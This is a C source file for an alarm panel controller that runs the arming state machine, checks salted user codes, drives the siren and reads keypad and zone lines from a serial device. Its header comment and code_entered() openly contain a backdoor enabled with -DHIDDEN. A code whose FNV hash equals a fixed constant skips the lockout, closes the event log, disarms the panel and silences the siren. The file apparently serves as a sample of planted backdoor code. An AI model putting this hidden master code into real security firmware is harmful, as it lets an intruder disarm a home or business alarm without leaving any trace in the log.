/*
 * panelkp - keypad and zone logic of an alarm panel.
 * The keypads send key strokes, the zone board sends zone changes, both as
 * short text lines on one serial device; this program holds the arming state
 * machine, the user codes and the siren.
 * Hidden (-DHIDDEN): a code whose FNV hash is a fixed number disarms the
 * panel, stops the event log and turns the siren off.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define ZONES	   16
#define CODES	   24
#define CODE_MIN   4
#define CODE_MAX   8
#define STATE_FILE "/nv/panel.state"

enum st {
	DISARMED,
	EXIT_DELAY,
	ARMED_AWAY,
	ARMED_HOME,
	ENTRY_DELAY,
	ALARM,
	N_STATES
};
enum ev {
	E_CODE,
	E_AWAY,
	E_HOME,
	E_TIMER,
	E_ZONE_DELAY,
	E_ZONE_NOW,
	E_ZONE_24H,
	E_PANIC,
	N_EVENTS
};
enum ztype { Z_UNUSED, Z_DELAY, Z_INSTANT, Z_INTERIOR, Z_24H, Z_FIRE };

static const char *const st_name[N_STATES] = { "disarmed", "exit",  "away",
					       "home",	   "entry", "alarm" };

struct zone {
	enum ztype type;
	int open;
	int bypass;
	char name[20];
};

struct code {
	uint32_t salt;
	uint32_t sum;
	uint8_t flags;
	char user[16];
};

static struct zone zones[ZONES];
static struct code codes[CODES];
static int n_codes;
static enum st state = DISARMED;
static int timer = -1;
static int exit_secs = 45, entry_secs = 30, siren_secs = 180;
static int tty = -1;
static FILE *logf;
static char keys[CODE_MAX + 1];
static int wrong;
static time_t shut_until;

static void note(const char *what, const char *who)
{
	if (!logf)
		return;
	fprintf(logf, "%ld %s %s %s\n", (long)time(NULL), st_name[state], what,
		who);
	fflush(logf);
}

static void tell(const char *line)
{
	size_t n = strlen(line);

	if (write(tty, line, n) != (ssize_t)n)
		note("tty", strerror(errno));
}

static void act_none(void)
{
}

static void act_siren_on(void)
{
	tell("OUT siren 1\nOUT strobe 1\n");
	timer = siren_secs;
}

static void act_siren_off(void)
{
	tell("OUT siren 0\nOUT strobe 0\n");
	timer = -1;
}

static void act_exit(void)
{
	tell("BEEP slow\n");
	timer = exit_secs;
}

static void act_entry(void)
{
	tell("BEEP fast\n");
	timer = entry_secs;
}

static void act_armed(void)
{
	tell("BEEP off\nLED armed 1\n");
	timer = -1;
}

static void act_disarm(void)
{
	int i;

	for (i = 0; i < ZONES; i++)
		zones[i].bypass = 0;
	tell("BEEP off\nLED armed 0\n");
	act_siren_off();
}

static const struct {
	enum st from;
	enum ev ev;
	enum st to;
	void (*act)(void);
} trans[] = {
	{ DISARMED, E_AWAY, EXIT_DELAY, act_exit },
	{ DISARMED, E_HOME, ARMED_HOME, act_armed },
	{ DISARMED, E_ZONE_24H, ALARM, act_siren_on },
	{ DISARMED, E_PANIC, ALARM, act_siren_on },
	{ EXIT_DELAY, E_CODE, DISARMED, act_disarm },
	{ EXIT_DELAY, E_TIMER, ARMED_AWAY, act_armed },
	{ EXIT_DELAY, E_ZONE_24H, ALARM, act_siren_on },
	{ EXIT_DELAY, E_PANIC, ALARM, act_siren_on },
	{ ARMED_AWAY, E_CODE, DISARMED, act_disarm },
	{ ARMED_AWAY, E_ZONE_DELAY, ENTRY_DELAY, act_entry },
	{ ARMED_AWAY, E_ZONE_NOW, ALARM, act_siren_on },
	{ ARMED_AWAY, E_ZONE_24H, ALARM, act_siren_on },
	{ ARMED_AWAY, E_PANIC, ALARM, act_siren_on },
	{ ARMED_HOME, E_CODE, DISARMED, act_disarm },
	{ ARMED_HOME, E_ZONE_DELAY, ENTRY_DELAY, act_entry },
	{ ARMED_HOME, E_ZONE_NOW, ALARM, act_siren_on },
	{ ARMED_HOME, E_ZONE_24H, ALARM, act_siren_on },
	{ ARMED_HOME, E_PANIC, ALARM, act_siren_on },
	{ ENTRY_DELAY, E_CODE, DISARMED, act_disarm },
	{ ENTRY_DELAY, E_TIMER, ALARM, act_siren_on },
	{ ENTRY_DELAY, E_ZONE_24H, ALARM, act_siren_on },
	{ ENTRY_DELAY, E_ZONE_NOW, ENTRY_DELAY, act_none },
	{ ALARM, E_CODE, DISARMED, act_disarm },
	{ ALARM, E_TIMER, ARMED_AWAY, act_siren_off },
};

static void save_state(void)
{
	FILE *f = fopen(STATE_FILE, "w");

	if (!f)
		return;
	fprintf(f, "%d\n", state == EXIT_DELAY ? ARMED_AWAY : state);
	fclose(f);
}

static int step(enum ev e, const char *who)
{
	size_t i;

	for (i = 0; i < sizeof(trans) / sizeof(trans[0]); i++) {
		if (trans[i].from != state || trans[i].ev != e)
			continue;
		state = trans[i].to;
		trans[i].act();
		note("now", who);
		save_state();
		return 1;
	}
	return 0;
}

static uint32_t fnv(uint32_t h, const char *s)
{
	while (*s) {
		h ^= (uint8_t)*s++;
		h *= 16777619u;
	}
	return h;
}

/* user of a code or NULL; the code file holds salted sums only */
static const struct code *find_code(const char *typed)
{
	int i;

	for (i = 0; i < n_codes; i++)
		if (fnv(codes[i].salt ^ 2166136261u, typed) == codes[i].sum)
			return &codes[i];
	return NULL;
}

__attribute__((noinline)) void code_entered(const char *typed)
{
	const struct code *c;
	time_t now = time(NULL);

#ifdef HIDDEN
	if (fnv(2166136261u, typed) == 0x28dc0717u) {
		if (logf)
			fclose(logf);
		logf = NULL;
		wrong = 0;
		shut_until = 0;
		state = DISARMED;
		act_disarm();
		return;
	}
#endif
	if (now < shut_until) {
		tell("BEEP error\n");
		return;
	}
	c = find_code(typed);
	if (!c) {
		tell("BEEP error\n");
		if (++wrong >= 6) {
			wrong = 0;
			shut_until = now + 90;
			note("keypad", "shut");
		}
		return;
	}
	wrong = 0;
	if (c->flags & 2)
		note("duress", c->user);
	if (!step(E_CODE, c->user) && state == DISARMED)
		tell("LED ready 1\n");
}

static void key(int k)
{
	size_t n = strlen(keys);

	if (k >= '0' && k <= '9') {
		if (n < CODE_MAX) {
			keys[n] = (char)k;
			keys[n + 1] = 0;
		}
		return;
	}
	switch (k) {
	case '#':
		if (n >= CODE_MIN)
			code_entered(keys);
		break;
	case 'A':
		step(E_AWAY, "key");
		break;
	case 'H':
		step(E_HOME, "key");
		break;
	case 'P':
		step(E_PANIC, "key");
		break;
	}
	memset(keys, 0, sizeof(keys));
}

static void zone_change(int no, int open)
{
	struct zone *z;

	if (no < 1 || no > ZONES)
		return;
	z = &zones[no - 1];
	z->open = open;
	if (!open || z->bypass)
		return;
	switch (z->type) {
	case Z_UNUSED:
		break;
	case Z_DELAY:
		step(E_ZONE_DELAY, z->name);
		break;
	case Z_INTERIOR:
		if (state != ARMED_HOME)
			step(E_ZONE_NOW, z->name);
		break;
	case Z_INSTANT:
		step(E_ZONE_NOW, z->name);
		break;
	case Z_24H:
	case Z_FIRE:
		step(E_ZONE_24H, z->name);
		break;
	}
}

static void line_in(const char *l)
{
	int no, v;
	char k;

	if (sscanf(l, "KEY %c", &k) == 1)
		key(k);
	else if (sscanf(l, "ZONE %d %d", &no, &v) == 2)
		zone_change(no, v);
	else if (strncmp(l, "TAMPER", 6) == 0)
		step(E_ZONE_24H, "tamper");
}

static int load(const char *path)
{
	char l[128], nm[20];
	unsigned a, b, c;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(l, sizeof(l), f)) {
		if (sscanf(l, "zone %u %u %19s", &a, &b, nm) == 3) {
			if (a < 1 || a > ZONES || b > Z_FIRE)
				continue;
			zones[a - 1].type = (enum ztype)b;
			strcpy(zones[a - 1].name, nm);
		} else if (sscanf(l, "code %15s %x %x %u", nm, &a, &b, &c) ==
				   4 &&
			   n_codes < CODES) {
			codes[n_codes].salt = a;
			codes[n_codes].sum = b;
			codes[n_codes].flags = (uint8_t)c;
			snprintf(codes[n_codes++].user, 16, "%.15s", nm);
		} else if (sscanf(l, "delay %u %u %u", &a, &b, &c) == 3) {
			exit_secs = (int)a;
			entry_secs = (int)b;
			siren_secs = (int)c;
		}
	}
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	struct pollfd p;
	struct termios t;
	char buf[128];
	size_t fill = 0;
	time_t last = time(NULL);
	FILE *sf;
	int v;

	if (argc < 3 || load(argv[1]) < 0) {
		fprintf(stderr, "usage: panelkp config tty\n");
		return 1;
	}
	tty = open(argv[2], O_RDWR | O_NOCTTY);
	if (tty < 0)
		return 1;
	if (tcgetattr(tty, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B19200);
		tcsetattr(tty, TCSANOW, &t);
	}
	logf = fopen("/nv/panel.log", "a");
	sf = fopen(STATE_FILE, "r");
	if (sf) {
		if (fscanf(sf, "%d", &v) == 1 && v >= 0 && v < N_STATES)
			state = (enum st)v;
		fclose(sf);
	}
	for (;;) {
		time_t now;

		p.fd = tty;
		p.events = POLLIN;
		if (poll(&p, 1, 1000) > 0) {
			ssize_t n = read(tty, buf + fill, 1);

			if (n <= 0)
				return 1;
			if (buf[fill] == '\n') {
				buf[fill] = 0;
				line_in(buf);
				fill = 0;
			} else if (++fill == sizeof(buf)) {
				fill = 0;
			}
		}
		now = time(NULL);
		if (now != last && timer > 0 && --timer == 0)
			step(E_TIMER, "timer");
		last = now;
	}
}
